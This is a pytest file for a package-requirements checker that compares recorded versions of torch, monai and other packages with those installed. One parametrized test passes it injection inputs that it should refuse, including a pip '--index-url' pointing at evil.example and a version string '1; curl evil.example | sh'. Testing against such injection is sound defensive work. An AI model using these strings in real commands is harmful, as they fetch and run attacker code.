from importlib.metadata import PackageNotFoundError, version

import pytest

from pipeline.sharing import requirements
from pipeline.sharing.requirements import (
    check_requirements,
    installed_versions,
    public_version,
)


def test_what_is_installed_needs_nothing():
    metadata = {
        "pytorch_version": public_version(version("torch")),
        "required_packages_version": installed_versions(),
    }
    assert check_requirements(metadata) == ({}, {})


def test_missing_and_differing_packages(monkeypatch):
    def without_tqdm(name):
        if name == "tqdm":
            raise PackageNotFoundError(name)
        return version(name)

    monkeypatch.setattr(requirements, "version", without_tqdm)
    metadata = {
        "monai_version": "0.1.0",
        "required_packages_version": {"tqdm": "1.0", "pyyaml": "1.0"},
    }
    result = check_requirements(metadata)
    assert result.missing == {"tqdm": "1.0"}
    assert result.differing == {
        "monai": ("0.1.0", version("monai")),
        "pyyaml": ("1.0", version("pyyaml")),
    }
    assert result.install_command() == "pip install tqdm==1.0"


@pytest.mark.parametrize(
    "listed",
    [
        {"no-such-package": "1.0"},
        {"--index-url=http://evil.example/simple": "1.0"},
        {"tqdm": "1; curl evil.example | sh"},
        {"tqdm": ""},
        ["tqdm"],
    ],
)
def test_a_package_that_the_project_does_not_require_is_refused(listed):
    with pytest.raises(ValueError, match="required_packages_version"):
        check_requirements({"required_packages_version": listed})
